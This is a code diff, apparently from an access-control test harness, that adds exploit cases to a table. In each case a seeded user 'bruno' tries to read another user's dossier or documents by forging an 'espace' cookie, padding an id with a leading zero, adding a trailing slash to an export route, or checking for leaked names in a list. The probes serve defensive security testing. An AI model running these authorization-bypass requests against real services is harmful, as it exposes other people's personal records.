@@ -464,6 +464,21 @@ const NEW_EXPLOITS = {
   'recap-query-scope': recapSwap("the summary of another usager named in the query string", 'query'),
   'delegation-header': recapSwap("the summary of another usager named in the delegation header", 'header'),
 
+  'espace-cookie-trusted': {
+    title: "the summary of another usager named in the espace cookie",
+    async run(target) {
+      const { population } = target;
+      const attacker = await bruno(target);
+      const espace = await attacker.get('/espace');
+      if (attacker.cookies.get('espace') !== String(population.person('bruno').id)) throw new Error(`positive control: bruno GET /espace (${espace.status}) set no espace cookie of his`);
+      attacker.cookies.set('espace', String(population.person('alice').id));
+      const reply = await attacker.get('/api/v2/recapitulatif');
+      const findings = new Findings();
+      for (const piece of population.piecesOf('alice')) findings.leak('bruno GET /api/v2/recapitulatif with Cookie: espace={alice}', reply, piece.marker);
+      return findings.list;
+    },
+  },
+
   'file-by-name': {
     title: "my dossier in the URL with another dossier's stored file name",
     async run(target) {
@@ -507,6 +522,34 @@ const NEW_EXPLOITS = {
       const reply = await attacker.get(path);
       const findings = new Findings();
       for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path} (ZIP entries)`, reply, piece.marker);
+      return findings.list;
+    },
+  },
+
+  'numeric-id-coercion': pieceRead("another usager's pièce content by its id with a leading zero", (id) => `/api/v2/pieces/0${id}/contenu`),
+
+  'export-registered-twice': {
+    title: "another usager's dossier through the export's trailing-slash registration",
+    async run(target) {
+      const { population } = target;
+      const attacker = await bruno(target);
+      const path = `/api/v2/dossiers/${population.dossierOf('alice')}/export/`;
+      const reply = await attacker.get(path);
+      const findings = new Findings();
+      for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path} (ZIP entries)`, reply, piece.marker);
+      return findings.list;
+    },
+  },
+
+  'duplicate-identities': {
+    title: "my dossier list to carry other usagers' names and birth dates",
+    async run(target) {
+      const { population } = target;
+      const attacker = await bruno(target);
+      const reply = await attacker.get('/api/v2/dossiers');
+      if (reply.status !== 200) throw new Error(`positive control: bruno GET /api/v2/dossiers → ${reply.status}`);
+      const findings = new Findings();
+      for (const other of ['alice', 'camille'] as const) findings.leak('bruno GET /api/v2/dossiers', reply, `"nom":"${population.person(other).nom}"`);
       return findings.list;
     },
   },
